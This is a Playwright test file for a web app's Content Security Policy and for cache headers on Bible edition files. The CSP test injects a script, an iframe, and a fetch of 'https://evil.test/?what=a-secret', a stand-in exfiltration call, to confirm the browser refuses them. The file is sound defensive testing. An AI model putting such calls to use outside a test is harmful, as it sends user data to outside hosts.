import { editionSchema } from '@raizes/domain/bible/edition';
import * as v from 'valibot';
import { expect, test, watchPolicy } from './support/test';

test('what the policy refuses is seen, and does not happen', async ({
  browser,
  contextOptions,
}) => {
  // A context of its own: the one of every test would fail for what is done here.
  // oxlint-disable-next-line no-restricted-properties
  const context = await browser.newContext(contextOptions);
  const refused = watchPolicy(context);
  const page = await context.newPage();
  await page.goto('/auth');
  const seen = (of: RegExp) => expect.poll(() => refused.join('\n')).toMatch(of);

  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'document.title = "injected"';
    document.body.append(script);
  });
  await seen(/script-src/);
  await page.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.test/';
    document.body.append(frame);
  });
  await seen(/frame-src/);
  await page.evaluate(() => fetch('https://evil.test/?what=a-secret').catch(() => undefined));
  await seen(/connect-src/);
  await page.evaluate(() => document.body.setAttribute('style', 'display: none'));
  await seen(/style-src-attr/);
  await page.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.src = '/dashboard';
    document.body.append(frame);
  });
  await seen(/frame-src.*\n.*dashboard|dashboard.*\n?.*frame-src/);
  await expect(page).not.toHaveTitle('injected');
  await context.close();
});

test('the Bible’s files are fetched, kept and missed as files', async ({ request }) => {
  const get = async (path: string) => {
    const response = await request.get(path);
    return [response.status(), response.headers()['cache-control']];
  };
  const answer = await request.get('/bible/edition.json');
  expect(answer.headers()['cache-control']).toBe('no-cache');
  const [book] = v.parse(editionSchema, await answer.json()).books;
  expect(await get(`/bible/${book?.file}`)).toEqual([200, 'public, max-age=31536000, immutable']);
  expect(await get('/bible/GEN.000000000000.json')).toContain(404);
  // Kept by the reader in a cache of its own, so that a new version of the app doesn't fetch them again.
  expect(await (await request.get('/sw.js')).text()).not.toContain('bible/');
});
